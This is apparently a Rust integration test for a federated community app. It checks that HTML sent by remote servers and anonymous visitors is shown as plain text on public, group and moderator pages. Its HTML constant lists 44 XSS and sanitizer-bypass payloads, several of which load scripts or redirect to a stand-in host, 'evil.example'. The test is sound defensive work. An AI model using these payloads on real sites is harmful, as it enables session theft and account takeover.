//! Rows 26 to 28 from the other side: what people elsewhere and people without an account send, HTML included, wherever it is shown
//! to everybody, to a group, or to those who look after the place.

use std::collections::BTreeSet;

use plaza::replies::{actions, store};
use serde_json::{Value, json};
use url::Url;

use super::{
    payloads::PAYLOADS,
    readers::{self, is_of_markdown},
};
use crate::{
    city::START,
    phone::Phone,
    replies::{PUBLIC, Voice},
    wire::{Desk, GROUP, ORIGIN},
};

/// What breaks out of HTML, or out of what a sanitizer made of it: of browsers' own corners, and of those of ammonia and DOMPurify.
const HTML: [&str; 44] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math></br><style><!--</style><img src onerror=alert(1)>--></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<table><td><a rel=\"</table><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=csrf autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\"><link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style><p style=\"position:fixed;inset:0\">x</p>",
    "<p class=\"admin-badge\" id=\"csrf\" lang=\"en\" dir=\"rtl\" onclick=alert(1)>x</p><img name=cookie><a id=main name=main>x</a>",
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video><marquee onstart=alert(1)>",
    "<img src=x onerror=alert(1)><img srcset=\"//evil.example/x 1x\"><picture><source srcset=//evil.example></picture>",
    "<a href=\"javascript:alert(1)\">x</a><a href=\"java\tscript:alert(1)\">x</a><a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"blob:https://x\">x</a>",
    "<a href=\"//evil.example\">x</a><a href=\"/me/leave\">x</a><a href=\"?lang=es\">x</a><a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"https://good.example/\" ping=//evil.example target=_self rel=opener download onclick=alert(1)>x</a>",
    "<a href='https://good.example/\"onmouseover=\"alert(1)'>x</a><a href=https://good.example/`onclick=alert(1)`>x</a>",
    "<div><p><a href=\"https://good.example/<script>alert(1)</script>\">x</div></main></body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<b><i><u><b><i></b></i></u><p></b><h1></p><h1><a><a><p></a></p>",
    "\u{feff}<\0script>alert(1)</script><img\u{c}src=x\u{b}onerror=alert(1)><scr\0ipt>",
    "<span title='\"><script>alert(1)</script>'>x</span><p data-challenge=x role=alert tabindex=0 contenteditable>x</p>",
];

/// Says it in every way there is, without an account and from another server.
async fn say_everywhere(desk: &Desk, number: usize, text: &str, note: &str) -> Voice {
    let host = format!("far{number}.example");
    let id = format!("https://{host}/users/x");
    let voice = Voice::called(desk, &id, text, &host).await;
    let with = |note: Value| {
        let mut note = note;
        (note["summary"], note["name"]) = (json!(text), json!(text));
        note["attachment"] = json!([{ "type": "Image", "url": format!("https://{host}/x.png"), "name": text }]);
        note
    };
    let first = with(voice.note(text, note));
    assert_eq!(voice.say(desk, "Create", first.clone()).await, 202, "{text}");
    let uri = first["id"].as_str().expect("an id").to_owned();
    if let Some(reply) = desk.city.app.db.read(move |conn| Ok(store::by_uri(conn, &uri)?)).await.expect("reading") {
        desk.city.app.act(move |conn, here| actions::let_through(conn, here, reply.id)).await.expect("let through");
    }
    let other = Voice::called(desk, &format!("https://{host}/users/y"), text, &host).await;
    assert_eq!(other.say(desk, "Create", with(other.note(text, note))).await, 202);
    let mut letter = with(voice.note(text, ""));
    (letter["inReplyTo"], letter["to"], letter["cc"]) = (Value::Null, json!([format!("{ORIGIN}/ap/groups/{GROUP}")]), json!([]));
    assert_eq!(voice.say(desk, "Create", letter).await, 202);
    let mut flag = json!({ "id": voice.new_id("flags"), "type": "Flag", "actor": voice.id, "object": [note], "content": text });
    flag["to"] = json!([PUBLIC]);
    desk.city.advance(std::time::Duration::from_secs(1));
    desk.hand_in(&flag.to_string(), &format!("{}#main-key", voice.id).parse().expect("an address")).await;
    let nobody = Phone::of(&desk.city);
    let note_page = format!("/announcements/{}", note.rsplit('/').next().expect("an id"));
    for (path, fields) in [
        ("/report", vec![("what", note_page.as_str()), ("kind", "danger"), ("words", text)]),
        ("/suggest", vec![("group", GROUP), ("text", text), ("moment", text), ("place", text), ("link", text)]),
        ("/suggest", vec![("group", GROUP), ("text", text), ("moment", text), ("place", text), ("link", "")]),
        ("/@kitchen/follow", vec![("account", text)]),
        ("/sign-in", vec![("handle", text), ("password", text), ("then", text), ("to", "/me"), ("kept.name", text)]),
        ("/join", vec![("name", text), ("handle", text), ("password", "short"), ("then", text)]),
    ] {
        let (status, page) = desk.page(&nobody, path, Some(&fields)).await;
        assert!([200, 303, 422, 400, 429].contains(&status), "{path} {status}: {text}");
        let wild = readers::page(&page).wild;
        assert!(wild.is_empty(), "{path}, {text}: {wild:?}");
    }
    voice
}

/// A group elsewhere that ours hears says it, as news and as a meeting, with a series.
async fn say_as_a_sister(desk: &Desk, number: usize, text: &str) -> Url {
    let host = format!("sister{number}.example");
    let voice = Voice::called(desk, &format!("https://{host}/groups/z"), text, &host).await;
    let actor: Url = voice.id.parse().expect("an id");
    desk.hears_actor(&actor).await;
    let mut news = voice.note(text, "");
    news["inReplyTo"] = Value::Null;
    let mut meeting = news.clone();
    meeting["id"] = json!(voice.new_id("events"));
    meeting["type"] = json!("Event");
    for field in ["name", "summary", "location", "timezone"] {
        meeting[field] = json!(text);
    }
    (meeting["startTime"], meeting["endTime"]) = (json!("2026-11-26T18:00:00Z"), json!("2026-11-26T20:00:00Z"));
    meeting["eventSchedule"] = json!({
        "id": format!("https://{host}/series/1"), "type": "Schedule", "name": text, "url": format!("https://{host}/series/1"),
        "rrule": "FREQ=WEEKLY;BYDAY=TH", "scheduleTimezone": "America/New_York", "startDate": "2026-11-26",
        "startTime": "13:00:00", "duration": "PT120M",
    });
    for object in [news, meeting] {
        assert_eq!(voice.say(desk, "Create", object).await, 202, "{text}");
    }
    actor
}

/// What there is to see of it: everybody's, the group's and the caretakers' pages.
async fn pages(desk: &Desk, who: &Phone, note: &str) -> Vec<String> {
    let of_note = note.rsplit('/').next().expect("an id");
    let mut paths = vec![
        "/elsewhere".to_owned(),
        "/elsewhere?lang=es".to_owned(),
        "/@kitchen".to_owned(),
        "/meetings?month=2026-11".to_owned(),
        "/meetings".to_owned(),
        "/".to_owned(),
        format!("/announcements/{of_note}"),
        format!("/announcements/{of_note}?lang=es"),
        format!("/report?what=/announcements/{of_note}"),
    ];
    paths.extend(
        [
            "/ours",
            "/ours/@kitchen",
            "/ours/@kitchen/news",
            "/ours/@kitchen/waiting",
            "/ours/@kitchen/sisters",
            "/care",
            "/care/reports",
            "/care/strangers",
            "/care/servers",
        ]
        .map(str::to_owned),
    );
    let (_, waiting) = desk.page(who, "/ours/@kitchen/waiting", None).await;
    for part in waiting.split("/ours/@kitchen/waiting/replies/").skip(1).take(2) {
        paths.push(format!("/ours/@kitchen/waiting/replies/{}", part.split('"').next().unwrap_or_default()));
    }
    paths
}

/// The parts of all these pages, and whatever should not be there.
async fn parts(desk: &Desk, who: &Phone, note: &str, text: &str) -> (BTreeSet<String>, usize) {
    let (mut parts, mut shown) = (BTreeSet::new(), 0);
    for path in pages(desk, who, note).await {
        let (status, html) = desk.page(who, &path, None).await;
        assert_eq!(status, 200, "{path}: {text}");
        let seen = readers::page(&html);
        assert_eq!(seen.wild, Vec::<String>::new(), "{path}: {text}");
        assert!(!html.contains("=\"admin-badge\"") && !html.contains("id=\"csrf\""), "{path}: {text}");
        shown += usize::from(html.contains(MARK));
        parts.extend(seen.skeleton.into_iter().filter(|part| !part.ends_with(" rare ones")));
    }
    (parts, shown)
}

/// By which it is found where it is shown.
const MARK: &str = "zebra-mark";

#[test]
fn whatever_others_send_shows_as_text_to_everybody_the_group_and_the_caretakers() {
    actix_web::rt::System::new().block_on(async {
        let desk = Desk::open("sqlite", START).await;
        let who = desk.city.organizer("ana", GROUP).await;
        let mut member = who.member.clone().expect("signed in");
        member.caretaker = true;
        desk.city.app.db.write(move |conn| Ok(plaza::members::store::save(conn, &member)?)).await.expect("saved");
        let payloads = PAYLOADS.map(|payload| payload.text);
        let all: Vec<&str> = HTML.into_iter().chain(payloads).collect();
        let mut usual: Option<BTreeSet<String>> = None;
        let mut number = 0;
        for some in [&["plain words"][..]].into_iter().chain(all.chunks(5)) {
            let note = desk.city.announce(GROUP, "We need pots").await;
            let note = format!("{ORIGIN}/ap/notes/{}", note.id);
            let (mut voices, mut sisters) = (Vec::new(), Vec::new());
            for text in some {
                number += 1;
                sisters.push(say_as_a_sister(&desk, number, &format!("{text} {MARK}")).await);
                voices.push(say_everywhere(&desk, number, &format!("{text} {MARK}"), &note).await.id);
            }
            let (parts, shown) = parts(&desk, &who, &note, &some.join("; ")).await;
            match &usual {
                None => {
                    assert!(shown >= 11, "harmless words are shown on {shown} pages only");
                    usual = Some(parts);
                }
                Some(usual) => {
                    let strange: Vec<&String> = parts.difference(usual).filter(|part| !is_of_markdown(part)).collect();
                    assert!(strange.is_empty(), "{some:?}: {strange:?}");
                }
            }
            let cleared = desk.city.app.act(move |conn, here| {
                for actor in &voices {
                    actions::refuse_all_of(conn, here, GROUP, actor)?;
                    actions::refuse_all_of(conn, here, GROUP, &actor.replace("/users/x", "/users/y"))?;
                }
                for actor in &sisters {
                    plaza::sisters::actions::leave(conn, here, GROUP, actor.as_str())?;
                }
                plaza::suggestions::actions::drop_all(conn, GROUP).map(|_| ())
            });
            cleared.await.expect("cleared");
        }
    });
}
